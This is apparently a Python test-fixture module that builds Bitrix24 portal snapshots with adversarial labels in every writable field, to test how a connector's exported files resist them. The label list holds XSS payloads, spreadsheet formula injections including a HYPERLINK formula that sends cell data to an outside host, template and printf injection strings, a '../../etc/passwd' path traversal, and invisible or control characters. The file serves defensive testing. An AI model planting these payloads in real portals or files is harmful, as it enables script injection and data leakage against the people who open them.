"""Labels somebody may write into a portal to break a file or to fool its reader."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace

from shared.bitrix24.coerce import text
from shared.domain.snapshot import Snapshot
from tests.builders import (
    a_department,
    a_dictionary,
    a_dictionary_item,
    a_list_field,
    a_list_value,
    a_pipeline,
    a_smart_process,
    a_snapshot,
    a_stage,
    a_standard_field,
    a_success_stage,
    a_user,
    a_user_field,
    complete_coverage,
)

PROCESS = "dynamic_1040"
LABELS = {
    "image": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "attribute": '" onmouseover=alert(1) x="',
    "scheme": "javascript:alert(1)",
    "template": "{{7*7}} ${7*7} {0} {name}",
    "printf": "%s%n",
    "hyperlink": '=HYPERLINK("http://e/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab and formula": "\t=1",
    "break and formula": "\r=1",
    "space and formula": "  =1+1",
    "full-width formula": "＝1+1",
    "full-width plus": "＋1",
    "table rule": "|---|",
    "cell end": "a|b\\|c",
    "link": "[x](javascript:1)",
    "picture": "![](https://e/b.png)",
    "heading": "# h",
    "emphasis": "*a* _b_ `c` ~~d~~ <http://e>",
    "entity": "&lt;b&gt; &#60;",
    "line breaks": "a\nb\r\nc\rd\u2028e\u2029f\x0bg\x0ch\x85i",
    "another row": "x\n  7  UF_CRM_FAKE            ufCrmFake   9  string  --  Fake",
    "looks like a row": "7  UF_CRM_FAKE",
    "looks like a code": "UF_CRM_FAKE",
    "only digits": "42",
    "columns": "Name        SUCCESS     #7BD500",
    "more values": "A* | 99 B",
    "default": "A*",
    "NUL": "a\x00b",
    "bidi override": "abc\u202edef\u202c",
    "bidi isolate": "\u2066abc\u2069",
    "zero width": "a\u200bb\ufeffc\u2060d",
    "soft hyphen": "a\u00adb",
    "filler": "\u3164\u2800",
    "lone surrogate": "a\ud800b",
    "ANSI": "\x1b[2J\x1b[31mred",
    "bell and backspace": "a\x07\x08\x08b",
    "C1": "a\x9bb",
    "noncharacter": "a\uffff\ufffeb",
    "private use": "a\ue000b",
    "damaged": "a\ufffdb",
    "endless": "x" * 40_000,
    "endless in words": "слово " * 7_000,
    "endless and wide": "中" * 10_000,
    "endless marks": "\u0301" * 10_000,
    "emoji": "👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈",
    "composed": "\u0439",
    "decomposed": "и\u0306",
    "Arabic": "طريقة التسليم",
    "path": "../../etc/passwd",
    "device": "CON",
    "brackets": "[Архив]",
    "slash": "Продажи/2025",
    "quotes": "\"'«»“”`",
    "case": "бюджет",
    "other case": "Бюджет",
    "apostrophe": "'=1",
    "empty": "",
    "blank": "   ",
    "separator": 'a;b,c\td"e',
    "CDATA": "]]>",
    "comment": "-->",
    "sheet": "a:b\\c/d?e*f[g]h" * 5,
    "escape of the spreadsheet": "_x000D_",
}

# As the connector reads them.
SHOWN = tuple(dict.fromkeys(label for label in map(text, LABELS.values()) if label))
# Many of these on one page would only be slow.
ENDLESS = tuple(label for label in SHOWN if len(label) > 5_000)
SHORT = tuple(label for label in SHOWN if label not in ENDLESS)


def labelled(label: str) -> Snapshot:
    """A portal with this label in every place where somebody can write one."""
    process = a_smart_process(title=label)
    long_list = a_list_field(
        *([label] + ["x"] * 50), entity_type=process.key, id=902, code="UF_CRM_7_LONG", api_name="ufCrm7Long"
    )
    return a_snapshot(
        entity_types=(*a_snapshot().entity_types, process),
        pipelines=(
            a_pipeline(name=label),
            a_pipeline(id=3, name=label, directory="DEAL_STAGE_3", is_default=False),
        ),
        stages=(a_stage(name=label, color=label), a_success_stage(name=label)),
        dictionaries=(a_dictionary(name=label, items=(a_dictionary_item(name=label),)),),
        standard_fields=(
            a_standard_field(label=label),
            a_standard_field(code="STAGE_ID", type=label, label=label),
            a_standard_field(entity_type=process.key, label=label),
        ),
        user_fields=(
            a_user_field(labels={"ru": label}),
            a_user_field(id=502, code="UF_CRM_2", api_name="ufCrm2", type=label, labels={"ru": label}),
            a_list_field(label, label, id=503, code="UF_CRM_3", api_name="ufCrm3", labels={"ru": label}),
            a_user_field(id=504, code="UF_CRM_4", type="crm_status", settings={"ENTITY_TYPE": label}),
            a_user_field(id=505, code="UF_CRM_5", type="iblock_element", settings={"IBLOCK_ID": label}),
            a_user_field(id=506, code="UF_CRM_6", type="crm", settings={label: "Y"}),
            a_user_field(id=901, entity_type=process.key, code="UF_CRM_7_A", labels={"ru": label}),
            long_list,
        ),
        users=(a_user(name=label, position=label), a_user(id=13, name=label, active=False)),
        departments=(a_department(name=label, head_id=13),),
        orphan_stages=(a_stage(id=900, directory="DEAL_STAGE_9", pipeline_id=9, name=label),),
    )


def coded(code: str) -> Snapshot:
    """A portal in which everything with a code of its own has this one."""
    snapshot = a_snapshot()
    changed = replace(
        snapshot,
        stages=(a_stage(status_id=code), a_success_stage(status_id=code, directory=code)),
        dictionaries=(a_dictionary(directory=code, items=(a_dictionary_item(status_id=code),)),),
        standard_fields=(a_standard_field(code=code, api_name=code),),
        user_fields=(
            a_user_field(code=f"UF_{code}", api_name=f"uf{code}"),
            a_list_field("A", id=502, code=f"UF_{code}2", api_name=code),
        ),
    )
    return replace(changed, coverage=complete_coverage(changed))


def together(snapshots: Iterable[Snapshot]) -> Snapshot:
    """One portal that has everything these have, in their order."""
    apart = [_numbered(snapshot, place) for place, snapshot in enumerate(snapshots)]
    found = replace(
        apart[0],
        entity_types=tuple(dict.fromkeys(row for one in apart for row in one.entity_types)),
        pipelines=tuple(row for one in apart for row in one.pipelines),
        stages=tuple(row for one in apart for row in one.stages),
        orphan_stages=tuple(row for one in apart for row in one.orphan_stages),
        dictionaries=tuple(row for one in apart for row in one.dictionaries),
        standard_fields=tuple(row for one in apart for row in one.standard_fields),
        user_fields=tuple(row for one in apart for row in one.user_fields),
        users=tuple(row for one in apart for row in one.users),
        departments=tuple(row for one in apart for row in one.departments),
    )
    return replace(found, coverage=complete_coverage(found))


def _numbered(snapshot: Snapshot, place: int) -> Snapshot:
    """The same under ids and codes that no other place has; fields stay with their entity."""
    first, mark = place * 1000, f"_{place:03}"
    process = f"dynamic_{1040 + 2 * place}"
    return replace(
        snapshot,
        entity_types=tuple(
            replace(row, key=process, entity_type_id=1040 + 2 * place) if row.key == PROCESS else row
            for row in snapshot.entity_types
        ),
        pipelines=tuple(
            replace(row, id=row.id + first, directory=row.directory + mark, sort=first)
            for row in snapshot.pipelines
        ),
        stages=tuple(
            replace(row, id=row.id + first, directory=row.directory + mark) for row in snapshot.stages
        ),
        orphan_stages=tuple(
            replace(row, id=row.id + first, directory=row.directory + mark) for row in snapshot.orphan_stages
        ),
        dictionaries=tuple(replace(row, directory=row.directory + mark) for row in snapshot.dictionaries),
        standard_fields=tuple(replace(row, code=row.code + mark) for row in snapshot.standard_fields),
        user_fields=tuple(
            replace(row, id=(row.id or 0) + first, code=row.code + mark, sort=first + place)
            for place, row in enumerate(snapshot.user_fields)
        ),
        users=tuple(replace(row, id=row.id + first) for row in snapshot.users),
        departments=tuple(
            replace(row, id=row.id + first, head_id=(row.head_id or 0) + first)
            for row in snapshot.departments
        ),
    )


def a_value_field(**changes: object) -> Snapshot:
    return a_snapshot(user_fields=(a_list_field(values=(a_list_value(**changes),)),))
